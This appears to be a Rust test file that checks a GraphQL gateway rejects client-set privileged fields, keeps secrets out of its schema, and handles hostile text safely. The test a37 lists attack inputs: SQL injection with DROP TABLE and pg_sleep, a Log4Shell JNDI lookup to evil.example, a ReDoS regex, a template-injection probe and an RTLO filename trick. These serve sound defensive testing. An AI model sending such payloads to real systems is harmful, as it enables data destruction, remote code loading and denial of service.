//! Values that are more than they seem: fields that nobody may set, and texts that mean something to a machine behind.

use serde_json::{Value, json};

use crate::{
    support::Gateway,
    tenant::{Tenant, code},
};

#[tokio::test]
async fn a06_what_the_platform_decides_is_no_part_of_any_input() {
    let gateway = Gateway::with_services().await;
    let ada = Tenant::join(&gateway, "ada").await;
    let before = ada.everything().await;
    let create = "mutation($input: StrategyCreateInput!) { strategyCreate(input: $input) { strategy { id } } }";
    for field in [
        "id",
        "organizationId",
        "ownerId",
        "tenantId",
        "role",
        "isAdmin",
        "createdAt",
        "assayed",
        "signature",
        "digest",
    ] {
        let input = json!({"name": "x", "template": "sma-cross", field: "x"});
        let answer = ada.ask(create, json!({"input": input})).await;
        assert!(["GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"].contains(&code(&answer)), "{field}: {answer}");
    }
    assert_eq!(ada.everything().await, before);
    gateway.stop().await;
}

#[test]
fn a08_the_schema_has_no_field_for_a_secret() {
    let sdl = assay_gateway::sdl().to_lowercase();
    let names = sdl.lines().map(str::trim).filter(|line| !line.starts_with('"') && line.contains(": "));
    for line in names {
        // An API key, told once to whoever makes it.
        if line == "secret: string" {
            continue;
        }
        for secret in ["passwordhash", "secret", "hash(", "keyhash", "salt", "privatekey", "objectkey"] {
            assert!(!line.contains(secret), "{line}");
        }
        // Given, never asked for.
        let is_act = line.starts_with("passwordreset") && line.contains("(input: ");
        assert!(!line.starts_with("password") || line == "password: string!" || is_act, "{line}");
    }
}

#[tokio::test]
async fn a37_a_text_is_a_text_to_everything_behind() {
    let gateway = Gateway::with_services().await;
    let ada = Tenant::join(&gateway, "ada").await;
    let hostile = [
        "'; DROP TABLE strategy.strategies; --",
        "' OR '1'='1",
        "%%%%%%%%%%%%%%%%",
        "\\'; SELECT pg_sleep(10); --",
        "${jndi:ldap://evil.example/a}",
        "((((((((((a+)+)+)+)+)+)+)+)+)+)$",
        "{{7*7}}",
        "\u{202e}txt.exe",
    ];
    let create = "mutation($input: StrategyCreateInput!) { strategyCreate(input: $input) { strategy { id name } userErrors { code } } }";
    for text in hostile {
        let input = json!({"name": text, "description": text, "tags": [text], "template": "sma-cross"});
        let made = ada.ask(create, json!({"input": input})).await;
        let strategy = &made["data"]["strategyCreate"]["strategy"];
        let is_kept = strategy["name"] == text;
        let is_refused = made["data"]["strategyCreate"]["userErrors"][0]["code"].is_string();
        assert!(is_kept || is_refused, "{text}: {made}");
        for query in [
            "query($x: ID!) { node(id: $x) { id } }",
            "query($x: ID!) { strategy(id: $x) { id } }",
            "query($x: ID!) { backtests(filter: {strategy: $x}) { totalCount } }",
            "query($x: ID!) { inspection(id: $x) { id } }",
            "mutation($x: ID!) { runCancel(id: $x) { run { id } } }",
        ] {
            let answer = ada.ask(query, json!({"x": text})).await;
            assert_ne!(code(&answer), "INTERNAL_SERVER_ERROR", "{query} {text}: {answer}");
        }
        let template = ada.ask(create, json!({"input": {"name": "x", "template": text}})).await;
        assert_eq!(template["data"]["strategyCreate"]["strategy"], Value::Null, "{text}: {template}");
    }
    gateway.stop().await;
}
